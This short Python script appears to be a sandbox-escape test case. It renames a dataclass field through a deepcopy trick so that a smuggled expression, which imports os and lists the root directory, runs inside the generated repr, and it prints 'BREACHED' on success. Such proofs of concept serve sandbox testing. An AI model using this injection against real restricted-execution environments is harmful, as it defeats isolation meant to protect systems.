# fence: ok/error | walls: -
import copy
from dataclasses import dataclass, fields

@dataclass
class Base:
    x: int = 0

field = fields(Base)[0]

@dataclass
class Writer:
    name: object
    def __deepcopy__(self, memo):
        return field

rename = copy.deepcopy(Writer("").__init__)
rename('" + str(__import__("os").listdir("/")) #')

@dataclass(init=False, eq=False)
class Made(Base):
    pass

print("BREACHED" if "', '" in repr(Made()) else "")
